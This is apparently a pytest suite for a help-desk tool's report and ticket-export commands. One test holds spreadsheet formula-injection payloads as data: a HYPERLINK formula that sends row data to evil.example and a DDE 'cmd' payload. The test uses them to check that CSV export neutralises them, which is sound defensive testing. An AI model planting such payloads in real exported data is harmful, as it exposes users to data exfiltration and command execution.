"""`mailgate report` and `mailgate tickets export` as an admin runs them: the installed console
script in a new process, on a desk made fresh for the test (the hand-worked week of
tests/support/report_desk.py, figures in tests/test_reports.py), and on a desk `mailgate init`
just made, with no tickets at all.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import make_mail
from support.console import on_terminal
from support.report_desk import known_week
from support.sla_desk import LEAD, TECH

MAILGATE = shutil.which("mailgate", path=str(Path(sys.executable).parent))
ENV = {
    **{k: v for k, v in os.environ.items() if not k.startswith("MAILGATE_")},
    "MAILGATE_SECRET": "test-secret",
}


def mailgate(config: Path, *args: str, ok: int = 0) -> subprocess.CompletedProcess[str]:
    assert MAILGATE, f"no mailgate console script next to {sys.executable}"
    done = subprocess.run(
        [MAILGATE, "--config", str(config), *args],
        cwd=config.parent,
        env=ENV,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == ok, done.stdout + done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    return done


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    desk = known_week(tmp_path_factory.mktemp("reports-cli") / "desk")
    desk.db.dispose()
    yield desk.config.root / "config.toml"


WEEK = ("--since", "2026-11-02", "--until", "2026-11-08")


def test_report_json_by_day(config: Path) -> None:
    data = json.loads(mailgate(config, "report", *WEEK, "--by", "day", "--format", "json").stdout)
    assert data["since"] == "2026-11-02T00:00:00+00:00" and data["until"] == "2026-11-09T00:00:00+00:00"
    assert [r["created"] for r in data["rows"]] == [2, 1, 1, 1, 0, 0, 0]
    t = data["total"]
    assert (t["created"], t["reopened"], t["backlog_open"], t["backlog_waiting"]) == (5, 1, 2, 0)
    assert (t["first_response_median_h"], t["resolution_median_h"]) == (1.0, 20.0)
    assert (t["sla_first_response_pct"], t["sla_resolution_pct"]) == (60.0, 40.0)
    assert (t["ratings"], t["rating_avg"], t["survey_response_pct"]) == (2, 3.5, 75.0)
    assert {"kind": "agent", "name": TECH, "assigned": 4, "resolved": 3, "open_now": 1} in data["workload"]


def test_report_csv_by_agent_and_text_for_one_desk(config: Path) -> None:
    out = mailgate(config, "report", *WEEK, "--by", "agent", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["period"] for r in rows] == [LEAD, TECH, "total"]
    assert [r["created"] for r in rows] == ["1", "4", "5"]
    assert rows[1]["sla_first_response_breached"] == "2" and rows[0]["first_response_median_h"] == "0.5"
    text = mailgate(config, "report", *WEEK, "--desk", "care").stdout
    assert "desk care" in text and re.search(r"(?m)^care\s+resolution\s+1$", text), text


def test_report_shows_its_progress_on_a_terminal_only(config: Path) -> None:
    shown = on_terminal(config.parent, "--config", str(config), "report", *WEEK)
    assert re.search(r"measuring tickets: 100%\|.*\| 5/5 \[", shown.err), shown.err  # SUP-1..4, CARE-1
    assert shown.out.startswith(mailgate(config, "report", *WEEK).stdout.splitlines()[0])
    piped = mailgate(config, "report", *WEEK)
    assert "%|" not in piped.stderr and "\r" not in piped.stderr, piped.stderr


def test_report_refuses_a_bad_date_and_an_unknown_desk(config: Path) -> None:
    bad = mailgate(config, "report", "--since", "yesterday-ish", ok=os.EX_USAGE)
    assert "not a date" in bad.stderr
    nodesk = mailgate(config, "report", "--desk", "NOPE", ok=os.EX_USAGE)
    assert "no desk 'NOPE' (desks: SUP, CARE)" in nodesk.stderr
    # a mistyped group is named with the groups there are, not answered with an empty report
    typo = mailgate(config, "report", *WEEK, "--group", "Service Dsk", ok=os.EX_USAGE)
    assert "no group 'Service Dsk' in team.toml or on any ticket (groups: Service Desk)" in typo.stderr
    exact = mailgate(config, "report", *WEEK, "--group", "Service Desk", "--format", "json").stdout
    typed = mailgate(config, "report", *WEEK, "--group", "service desk", "--format", "json").stdout
    assert (
        json.loads(typed)["total"] == json.loads(exact)["total"] and json.loads(exact)["total"]["created"] > 0
    )


def test_tickets_export_csv_and_json_with_messages(config: Path, tmp_path: Path) -> None:
    out = mailgate(config, "tickets", "export", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["key"] for r in rows] == ["SUP-1", "SUP-2", "SUP-3", "SUP-4", "CARE-1"]
    assert rows[1]["sla_first_response"] == "breached" and rows[1]["sla_resolution"] == "met"
    assert rows[2]["rating"] == "2" and rows[2]["rating_comment"] == "Took too long"
    target = tmp_path / "tickets.json"
    done = mailgate(
        config, "tickets", "export", "--format", "json", "--with-messages", "--desk", "SUP", "-o", str(target)
    )
    assert "4 tickets written" in done.stderr
    data = json.loads(target.read_text())
    assert [t["key"] for t in data] == ["SUP-1", "SUP-2", "SUP-3", "SUP-4"]
    assert [m["direction"] for m in data[0]["messages"]] == ["in", "in", "in", "in"]
    assert data[0]["messages"][3]["text"].startswith("5 - Great service")
    refused = mailgate(config, "tickets", "export", "--with-messages", ok=os.EX_USAGE)
    assert "--with-messages needs --format json" in refused.stderr


def test_report_opt_out_and_in(config: Path) -> None:
    assert "gets no weekly report mail" in mailgate(config, "report", "--opt-out", "Lead@Example.com").stdout
    assert "gets no weekly report mail" in mailgate(config, "report", "--opt-out", "lead@example.com").stdout
    assert "again" in mailgate(config, "report", "--opt-in", "lead@example.com").stdout


def _init_desk(tmp_path: Path) -> Path:
    """A desk as `mailgate init` makes it (SUP, support@localhost); its config.toml."""
    assert MAILGATE
    subprocess.run(
        [MAILGATE, "init", "desk", "--desk-address", "support@localhost", "--key", "SUP"],
        cwd=tmp_path,
        env=ENV,
        check=True,
        capture_output=True,
        timeout=120,
    )
    return tmp_path / "desk" / "config.toml"


def test_on_a_desk_init_just_made(tmp_path: Path) -> None:
    config = _init_desk(tmp_path)
    # Nothing received yet: both say so, as every reading command does, instead of empty figures.
    for args in (("report",), ("tickets", "export")):
        empty = mailgate(config, *args, ok=os.EX_NOINPUT)
        assert "nothing was ever received with this configuration" in empty.stderr
    mail = tmp_path / "first.eml"
    mail.write_bytes(make_mail("Printer on fire", sender="ann@acme.example", to="support@localhost"))
    mailgate(config, "ingest", str(mail))
    data = json.loads(mailgate(config, "report", "--format", "json").stdout)
    assert (data["total"]["created"], data["total"]["created_pipe"], data["total"]["backlog_open"]) == (
        1,
        1,
        1,
    )
    assert data["total"]["first_response_median_h"] is None
    assert "Volume and backlog" in mailgate(config, "report", "--by", "week").stdout
    rows = list(csv.DictReader(io.StringIO(mailgate(config, "tickets", "export").stdout)))
    assert [(r["key"], r["subject"], r["requester"]) for r in rows] == [
        ("SUP-1", "Printer on fire", "ann@acme.example")
    ]


def test_attack_a_formula_in_what_a_stranger_wrote_is_text_in_the_csv_export(tmp_path: Path) -> None:
    """A subject or a display name is whatever a stranger wrote; opened in a spreadsheet, a cell
    starting with "=", "+", "-" or "@" is a formula (CWE-1236): HYPERLINK would carry the row's
    other cells off with one click. The CSV cell starts with a quote; JSON keeps it as written.
    Control: an ordinary subject is exported unchanged."""
    config = _init_desk(tmp_path)
    formula = '=HYPERLINK("https://evil.example/?"&D2,"Open invoice")'
    mails = [
        make_mail(
            formula, sender="\"@SUM(1+1)*cmd|' /C calc'!A0\" <eve@evil.example>", to="support@localhost"
        ),
        make_mail("Printer on fire", sender="Ann <ann@acme.example>", to="support@localhost"),
    ]
    for n, raw in enumerate(mails):
        path = tmp_path / f"{n}.eml"
        path.write_bytes(raw)
        mailgate(config, "ingest", str(path))
    rows = list(csv.DictReader(io.StringIO(mailgate(config, "tickets", "export", "--format", "csv").stdout)))
    assert rows[0]["subject"] == "'" + formula
    assert rows[0]["requester_name"].startswith("'@SUM(")
    assert (rows[1]["subject"], rows[1]["requester_name"]) == ("Printer on fire", "Ann")
    data = json.loads(mailgate(config, "tickets", "export", "--format", "json").stdout)
    assert data[0]["subject"] == formula
